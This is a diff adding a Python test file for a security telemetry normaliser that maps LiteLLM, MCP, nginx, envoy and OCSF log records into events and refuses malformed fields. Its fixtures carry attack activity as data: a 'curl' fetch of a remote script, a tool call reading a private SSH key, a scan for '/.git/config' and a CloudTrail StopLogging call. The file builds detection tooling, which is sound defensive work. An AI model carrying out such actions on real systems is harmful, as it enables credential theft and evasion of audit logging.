@@ -1,0 +1,239 @@
+"""Logs of gateways, web servers and OCSF senders arrive as events under our names; what cannot be used is refused by line and field."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from caiso.connect.telemetry.decode import ndjson
+from caiso.connect.telemetry.normalise import merge_content, normalise
+from caiso.connect.telemetry.records import LIMITS, RawRecord, Refusal
+from tests.connect.telemetry import logs
+
+NOW_US = int(logs.AT * 1e6) + 60_000_000
+
+
+def decode(*documents: Any) -> list[RawRecord | Refusal]:
+    body = b"\n".join(json.dumps(document).encode() for document in documents)
+    return list(ndjson.decode(body, LIMITS))
+
+
+def event(document: dict[str, Any]) -> dict[str, Any]:
+    (record,) = decode(document)
+    assert isinstance(record, RawRecord), record
+    found = normalise(record, source_id="s", ingest_us=NOW_US)
+    return merge_content(found.event, found.segments)
+
+
+def reason(document: dict[str, Any]) -> str:
+    (refusal,) = decode(document)
+    assert isinstance(refusal, Refusal)
+    assert refusal.index == 1
+    return refusal.reason
+
+
+def has(found: dict[str, Any], **expected: Any) -> bool:
+    named = {name.replace("__", "."): value for name, value in expected.items()}
+    assert {name: found.get(name) for name in named} == named
+    return True
+
+
+def test_litellm_call_becomes_an_inference_with_who_what_and_content() -> None:
+    found = event(logs.litellm())
+    assert has(
+        found, event__kind="inference", service__name="claims-copilot", gen_ai__provider__name="openai",
+        gen_ai__request__model="gpt-5-mini", gen_ai__response__model="gpt-5-mini-2026-08", gen_ai__usage__input_tokens=40,
+        gen_ai__usage__output_tokens=21, user__id="amara", api_key__id="88dc28d0f030c55ed4ab77ed8faf098196cb1c05",
+        client__address="198.51.100.23", server__address="api.openai.example", duration_us=1_500_000,
+        guardrail__policy="injection", guardrail__verdict="guardrail_intervened", logit_bias_used=True, error__type=None,
+        content__system="You help with claims.", content__untrusted=logs.INJECTED, content__output="It is an invoice.",
+        time=int(logs.AT * 1e6), aisoc__session="3f0c9f0e-8a51-4a7e-9a0b-0d6f3a1f8c11", content__missing=False,
+    )  # fmt: skip
+    assert found["gen_ai.response.finish_reasons"] == ["stop"]
+
+
+def test_litellm_wrapped_in_a_callback_and_gathered_in_a_list_is_the_same() -> None:
+    plain = event(logs.litellm())
+    assert event({"standard_logging_object": logs.litellm(), "other": 1}) == plain
+    listed = list(ndjson.decode(json.dumps([logs.litellm(), 7, logs.nginx()], indent=1).encode(), LIMITS))
+    assert [type(item) for item in listed] == [RawRecord, Refusal, RawRecord]
+    assert isinstance(listed[1], Refusal)
+    assert (listed[1].index, "must be a JSON object" in listed[1].reason) == (2, True)
+
+
+def test_litellm_failure_and_tool_call_and_embedding() -> None:
+    failed = logs.litellm(
+        status="failure", response=None, error_str="no", error_information={"error_class": "RateLimitError"}
+    )
+    assert has(event(failed), error__type="RateLimitError", content__output=None)
+    tool = event(logs.mcp_call())
+    assert has(
+        tool, event__kind="tool", gen_ai__tool__name="read_file", mcp__server__name="files", mcp__method__name="tools/call",
+        gen_ai__tool__call__result="(key)", gen_ai__request__model=None,
+    )  # fmt: skip
+    assert json.loads(tool["gen_ai.tool.call.arguments"]) == {"path": "/home/deploy/.ssh/id_ed25519"}
+    embedding = logs.litellm(call_type="aembedding", messages="a text", response={"object": "list", "data": []})
+    assert has(event(embedding), event__kind="embedding", content__user="a text")
+
+
+def test_nginx_line_becomes_a_request() -> None:
+    assert has(
+        event(logs.nginx()), event__kind="http", http__request__method="GET", url__full="https://models.example/.git/config?x=1",
+        url__path="/.git/config", url__query="x=1", server__address="models.example", client__address="203.0.113.9",
+        http__response__status_code=404, http__response__body__size=153, duration_us=12_000, user__id=None,
+        user_agent__original="Nuclei - Open-source project", time=1_795_337_999_000_000, event__name="",
+    )  # fmt: skip
+
+
+def test_nginx_with_few_fields_and_the_common_log_time() -> None:
+    few = {
+        "remote_addr": "203.0.113.9",
+        "time_local": "22/Nov/2026:09:59:59 +0100",
+        "request": "GET /a.php HTTP/1.0",
+        "status": 200,
+    }
+    assert has(event(few), url__path="/a.php", url__extension="php", time=1_795_337_999_000_000, url__full=None)
+    assert has(event(few | {"request": "\\x16\\x03\\x01"}), url__path="\\x16\\x03\\x01", http__request__method=None)
+
+
+def test_envoy_line_becomes_a_request_and_dashes_mean_nothing() -> None:
+    assert has(
+        event(logs.envoy()), event__kind="http", http__request__method="POST", url__path="/v1/models/fraud:predict",
+        url__full="http://serving.example:8443/v1/models/fraud:predict", server__address="serving.example",
+        client__address="198.51.100.4", http__response__status_code=200, http__response__body__size=88, duration_us=34_000,
+        envoy__response_flags=None,
+    )  # fmt: skip
+    assert has(event(logs.envoy(downstream_remote_address="[2001:db8::1]:443")), client__address="2001:db8::1")
+
+
+def test_ocsf_api_activity_is_what_cloud_rules_ask_for() -> None:
+    assert has(
+        event(logs.ocsf_api()), event__kind="api", api__operation="StopLogging", api__service__name="cloudtrail.amazonaws.com",
+        cloud__provider="aws", cloud__account__id="123456789012", user__id="mallory", client__address="203.0.113.50",
+        error__type="AccessDenied", user_agent__original="aws-cli/2.17", time=int(logs.AT * 1e6),
+    )  # fmt: skip
+
+
+def test_ocsf_api_activity_with_a_message_is_a_call_of_a_model() -> None:
+    found = event(
+        logs.ocsf_api(
+            ai_model={"name": "claude-4", "ai_provider": "Anthropic"},
+            message_context={"prompt_text": "hello", "response_text": "hi", "prompt_tokens": 3, "uid": "c1",
+                             "application": {"name": "helper"}},
+        )
+    )  # fmt: skip
+    assert has(
+        found, event__kind="inference", gen_ai__request__model="claude-4", gen_ai__provider__name="anthropic",
+        content__user="hello", content__output="hi", gen_ai__usage__input_tokens=3, service__name="helper", aisoc__session="c1",
+    )  # fmt: skip
+
+
+def test_ocsf_process_launch_is_something_that_ran_and_its_end_is_not() -> None:
+    started = event(logs.ocsf_process())
+    assert has(
+        started, event__kind="tool", aisoc__tool__impact="exec", process__command_line="curl -s http://203.0.113.77/x.sh",
+        process__executable__path="/usr/bin/curl", user__id="trainer", gen_ai__tool__name=None, service__name="",
+    )  # fmt: skip
+    assert has(event(logs.ocsf_process(activity_id=2)), event__kind="other", aisoc__tool__impact=None)
+
+
+def test_ocsf_http_and_web_resources_are_requests() -> None:
+    expected = {
+        "event__kind": "http", "http__request__method": "GET", "url__path": "/admin/export.php", "url__query": "all=1",
+        "url__extension": "php", "server__address": "models.example", "http__response__status_code": 403,
+        "client__address": "203.0.113.9",
+    }  # fmt: skip
+    assert has(event(logs.ocsf_http()), **expected)
+    resources = logs.ocsf_http(6001, http_request={}, web_resources=[{"url_string": "https://models.example/a.txt"}])
+    assert has(event(resources), url__path="/a.txt", server__address="models.example")
+
+
+def test_ocsf_login_and_access_to_data() -> None:
+    login = logs.ocsf(
+        3002, user={"name": "amara"}, src_endpoint={"ip": "203.0.113.3"}, status_id=2, status_detail="bad password"
+    )
+    assert has(event(login), event__kind="authz", action="logon", user__id="amara", error__type="bad password")
+    write = logs.ocsf(
+        6005, activity_id=5, database={"name": "lake"}, table={"name": "loans"}, actor={"user": {"name": "etl"}}
+    )
+    assert has(
+        event(write), event__kind="data_access", dataset__id="lake/loans", action="write", writer="etl", user__id="etl"
+    )
+
+
+def test_native_records_stay_what_they_were() -> None:
+    native = [
+        {"event.kind": "ml_inference", "model.id": "fraud", "input.features": [0.1, 2.0], "output.label": "ok", "time": logs.AT},
+        {"event.kind": "registry", "artifact.uri": "s3://m/a", "action": "register", "registry.stage": "prod", "time": logs.AT},
+        {"event.kind": "data_access", "dataset.id": "loans", "rows": "12", "action": "read", "time": logs.AT},
+        {"event.kind": "training", "dataset.id": "loans", "writer": "etl", "time": logs.AT},
+    ]  # fmt: skip
+    found = [event(document) for document in native]
+    assert [one["event.kind"] for one in found] == ["ml_inference", "registry", "data_access", "training"]
+    assert found[2]["rows"] == 12
+
+
+@pytest.mark.parametrize(
+    ("document", "word"),
+    [
+        ({"level": "info", "msg": "started"}, "'level'"),
+        (logs.ocsf(2004, finding_info={}), "class_uid 2004"),
+        (logs.ocsf(4002), "http_request.url"),
+        (logs.ocsf(6003), "api.operation"),
+        (logs.ocsf(6005), "database"),
+        (logs.ocsf_api() | {"api": "StopLogging"}, "api must be an object"),
+        (logs.ocsf_api() | {"time": None}, "has no time"),
+        (logs.ocsf_http() | {"http_response": {"code": "many"}}, "code must be a number"),
+        (logs.nginx(status=[200]), "status must be a number"),
+        (logs.nginx(time_iso8601="yesterday"), "yesterday"),
+        (logs.nginx() | {"time_iso8601": "22/Foo/2026:09:59:59 +0100"}, "time_iso8601"),
+        (logs.nginx(http_user_agent={"a": 1}), "http_user_agent"),
+        ({"remote_addr": "203.0.113.9", "request_time": "0.1", "time": logs.AT}, "without a request"),
+        (logs.litellm(messages=7), "messages must be"),
+        (logs.litellm(metadata=[1]), "metadata must be an object"),
+        (logs.litellm(startTime=None), "startTime"),
+        (logs.litellm(prompt_tokens="a lot"), "prompt_tokens"),
+        (logs.litellm(prompt_tokens=float(10**40)), "prompt_tokens"),
+    ],
+)
+def test_what_cannot_be_used_is_refused_with_the_name_of_its_field(document: dict[str, Any], word: str) -> None:
+    assert word in reason(document)
+
+
+def test_no_text_of_a_message_and_no_secret_header_lies_open_in_the_event() -> None:
+    request = logs.ocsf_http()["http_request"] | {"http_headers": [{"name": "Authorization", "value": "Bearer sesame"}]}
+    for document in (logs.litellm(), logs.mcp_call(), logs.ocsf_http(http_request=request, message="sesame")):
+        (record,) = decode(document)
+        assert isinstance(record, RawRecord)
+        written = json.dumps(normalise(record, source_id="s", ingest_us=NOW_US).event)
+        assert not [word for word in ("ledger-check", "invoice", "id_ed25519", "sesame") if word in written]
+
+
+_leaf = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20)
+_value = st.recursive(
+    _leaf,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
+    max_leaves=8,
+)
+_samples = [
+    logs.litellm(),
+    logs.mcp_call(),
+    logs.nginx(),
+    logs.envoy(),
+    logs.ocsf_api(),
+    logs.ocsf_process(),
+    logs.ocsf_http(),
+]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.sampled_from(_samples), st.data())
+def test_damaged_fields_are_read_or_refused_never_a_crash(sample: dict[str, Any], data: st.DataObject) -> None:
+    name = data.draw(st.sampled_from(sorted(sample)))
+    for item in decode(sample | {name: data.draw(_value)}):
+        if isinstance(item, RawRecord):
+            normalise(item, source_id="s", ingest_us=NOW_US)
